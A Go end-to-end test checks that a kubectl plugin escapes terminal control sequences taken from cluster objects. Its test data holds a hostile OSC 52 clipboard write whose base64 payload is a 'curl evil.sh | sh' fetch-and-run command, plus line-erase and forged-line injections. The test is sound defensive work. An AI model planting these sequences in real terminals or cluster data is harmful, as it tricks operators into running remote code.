//go:build e2e

package e2e

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	coordinationv1 "k8s.io/api/coordination/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
)

// hostile holds what anyone who may write an annotation, a Lease or an image
// can put there: an OSC 52 clipboard write, a colour, a carriage return and
// line erase, a newline that forges a line of output.
const (
	osc52      = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
	forgedLine = "\nrelease ctwoc is free"
)

// assertInert fails when what kubectl ship printed holds a control
// character other than the newlines ending its lines, or a forged line.
func assertInert(t *testing.T, what, out string) {
	t.Helper()
	if i := strings.IndexFunc(out, func(r rune) bool { return (r < 0x20 && r != '\n') || r == 0x7f }); i >= 0 {
		t.Errorf("%s: control character %q reaches the terminal:\n%s", what, out[i], out)
	}
	if strings.Contains(out, "\nrelease ctwoc is free") {
		t.Errorf("%s: a newline from the cluster forged a line:\n%s", what, out)
	}
}

// Strings from the cluster reach terminals escaped, in text output and in
// error lines; -o json keeps them exact.
func TestClusterStringsReachTheTerminalEscaped(t *testing.T) {
	t.Parallel()
	ns := seedRelease(t, seed{rolledOut: true})
	ctx := context.Background()
	client := apiClient(t)
	image := v1 + osc52 + "x"
	mustKubectl(t, "annotate", "-n", ns, "deployment/ctwoc", "kubernetes.io/change-cause=approved\r\x1b[2K"+forgedLine)
	mustKubectl(t, "set", "image", "-n", ns, "deployment/ctwoc", "ctwoc="+image)
	mustKubectl(t, "rollout", "status", "-n", ns, "deployment/ctwoc", "--timeout=60s")

	record, _ := json.Marshal([]map[string]any{{"time": "2026-11-25T10:00:00Z", "command": "kubectl ship promote ctwoc\x1b[31m" + forgedLine,
		"changes": []string{"deployment.apps/ctwoc promoted" + osc52}}})
	now := metav1.NewMicroTime(time.Now())
	_, err := client.CoordinationV1().Leases(ns).Create(ctx, &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Name: "kubectl-ship-ctwoc", Annotations: map[string]string{
			"kubectl-ship.dev/operation": "kubectl ship promote ctwoc\r\x1b[2K",
			"kubectl-ship.dev/history":   string(record),
		}},
		Spec: coordinationv1.LeaseSpec{HolderIdentity: ptr.To("eve" + osc52 + forgedLine), LeaseDurationSeconds: ptr.To(int32(600)),
			AcquireTime: &now, RenewTime: &now},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}

	status := mustShip(t, ns, "status", "ctwoc").stdout
	assertInert(t, "status", status)
	for _, want := range []string{`example/ctwoc:1.0.0^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07x`, `Operation: kubectl ship promote ctwoc\r^[[2K by eve^[]52;c;`} {
		if !strings.Contains(status, want) {
			t.Errorf("status lacks %q:\n%s", want, status)
		}
	}
	if st := shipStatus(t, ns, "ctwoc"); st.Deployments[0].Images[0] != image {
		t.Errorf("status -o json changed the image: %q", st.Deployments[0].Images[0])
	}
	assertInert(t, "list", mustShip(t, ns, "list", "-o", "wide").stdout)

	history := mustShip(t, ns, "history", "ctwoc").stdout
	assertInert(t, "history", history)
	if !strings.Contains(history, `approved\r^[[2K\nrelease ctwoc is free`) || !strings.Contains(history, `kubectl ship promote ctwoc^[[31m\n`) {
		t.Errorf("history does not show the record escaped:\n%s", history)
	}
	var h struct {
		Operations []struct{ Command string } `json:"operations"`
	}
	if err := json.Unmarshal([]byte(mustShip(t, ns, "history", "ctwoc", "-o", "json").stdout), &h); err != nil || len(h.Operations) != 1 ||
		h.Operations[0].Command != "kubectl ship promote ctwoc\x1b[31m"+forgedLine {
		t.Errorf("history -o json changed the record (%v): %+v", err, h)
	}

	// The busy error quotes the lock's holder and operation.
	res := ship(t, ns, "canary", "ctwoc", "--image", v2, "--wait=false")
	if res.code != 1 || !strings.Contains(res.stderr, `release ctwoc is busy: kubectl ship promote ctwoc\r^[[2K by eve^[]52;c;`) {
		t.Errorf("the busy error: exit %d\n%s", res.code, res.stderr)
	}
	assertInert(t, "the busy error", res.stderr)
}
